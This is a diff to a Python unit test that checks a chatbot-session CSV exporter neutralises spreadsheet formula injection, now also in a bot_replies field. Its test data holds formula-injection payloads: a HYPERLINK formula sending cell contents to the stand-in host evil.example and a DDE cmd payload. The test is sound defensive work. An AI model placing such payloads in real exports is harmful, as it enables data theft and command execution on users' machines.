@@ -231,10 +231,12 @@ def test_csv_export_cells_are_not_formulas() -> None:
 
     attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx"]
     turns = [{"turn_index": i, "speaker_id": "u", "sent_at": None, "received_at": None, "status": "analysed",
-              "error_code": None, "text": t, "emotion": None} for i, t in enumerate(attacks + ["a normal message"])]
+              "error_code": None, "text": t, "bot_replies": [t, "ok"], "emotion": None}
+             for i, t in enumerate(attacks + ["a normal message"])]
     rows = list(csv.DictReader(io.StringIO(export_csv(
         {"sessions": [{"session_id": "=s", "bot": "support", "user_id": "u", "turns": turns}]}))))
     assert [r["text"] for r in rows] == ["'" + t for t in attacks] + ["a normal message"]
+    assert [r["bot_replies"] for r in rows] == ["'" + t + "\nok" for t in attacks] + ["a normal message\nok"]
     assert {r["session_id"] for r in rows} == {"'=s"}
 
 
